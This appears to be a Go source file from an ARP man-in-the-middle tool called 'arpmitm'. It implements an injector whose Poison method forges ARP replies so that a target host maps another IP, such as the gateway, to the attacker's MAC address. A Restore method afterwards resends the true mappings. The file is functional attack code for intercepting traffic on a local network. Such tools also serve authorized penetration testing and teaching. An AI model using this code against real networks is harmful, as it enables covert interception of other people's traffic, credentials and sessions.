package spoofer

import (
	"errors"
	"fmt"
	"net"
	"time"

	"arpmitm/internal/link"
	"arpmitm/internal/models"

	"github.com/google/gopacket/layers"
	"github.com/sirupsen/logrus"
)

const DefaultRestoreCopies = 3

// Injector writes forged and corrective ARP replies.
type Injector struct {
	link  link.Transport
	local models.HostAddress
	log   *logrus.Entry

	// Copies is how many times Restore sends each corrective reply.
	Copies int
	// Gap is the pause between two corrective replies.
	Gap time.Duration
}

func NewInjector(t link.Transport, local models.HostAddress, log *logrus.Entry) *Injector {
	return &Injector{
		link:   t,
		local:  local,
		log:    log.WithField("component", "injector"),
		Copies: DefaultRestoreCopies,
	}
}

// Poison tells the host at targetIP/targetMAC that spoofedIP lives at our
// hardware address. One frame, no retry.
func (i *Injector) Poison(spoofedIP, targetIP net.IP, targetMAC net.HardwareAddr) error {
	frame, err := arpFrame{
		Operation: layers.ARPReply,
		EthSrc:    i.local.MAC,
		SenderMAC: i.local.MAC,
		SenderIP:  spoofedIP,
		TargetMAC: targetMAC,
		TargetIP:  targetIP,
	}.serialize()
	if err != nil {
		return fmt.Errorf("failed to serialize ARP reply: %w", err)
	}
	if err := i.link.WritePacketData(frame); err != nil {
		return fmt.Errorf("poison %s as %s: %w", targetIP, spoofedIP, err)
	}

	i.log.WithFields(logrus.Fields{"spoofed": spoofedIP, "target": targetIP, "target_mac": targetMAC}).Debug("Sent poisoned ARP reply")
	return nil
}

// Restore sends the true mappings of both hosts, Copies times each, and
// returns the number of frames written. It never stops early: a failed copy
// is recorded and the remaining copies are still attempted.
func (i *Injector) Restore(victim, gateway models.HostAddress) (int, error) {
	toVictim, err := restoreFrame(i.local.MAC, gateway, victim)
	if err != nil {
		return 0, err
	}
	toGateway, err := restoreFrame(i.local.MAC, victim, gateway)
	if err != nil {
		return 0, err
	}

	var (
		errs []error
		sent int
	)
	frames := [][]byte{toVictim, toGateway}
	total := len(frames) * i.Copies
	for n := 0; n < total; n++ {
		if n > 0 && i.Gap > 0 {
			time.Sleep(i.Gap)
		}
		if err := i.link.WritePacketData(frames[n/i.Copies]); err != nil {
			errs = append(errs, err)
			continue
		}
		sent++
	}

	i.log.WithFields(logrus.Fields{"sent": sent, "failed": len(errs)}).Debug("Sent corrective ARP replies")
	if len(errs) > 0 {
		return sent, fmt.Errorf("restore ARP tables: %w", errors.Join(errs...))
	}
	return sent, nil
}

// restoreFrame announces owner's real address to recipient.
func restoreFrame(localMAC net.HardwareAddr, owner, recipient models.HostAddress) ([]byte, error) {
	frame, err := arpFrame{
		Operation: layers.ARPReply,
		EthSrc:    localMAC,
		EthDst:    recipient.MAC,
		SenderMAC: owner.MAC,
		SenderIP:  owner.IP,
		TargetMAC: broadcastMAC,
		TargetIP:  recipient.IP,
	}.serialize()
	if err != nil {
		return nil, fmt.Errorf("failed to serialize corrective ARP reply: %w", err)
	}
	return frame, nil
}
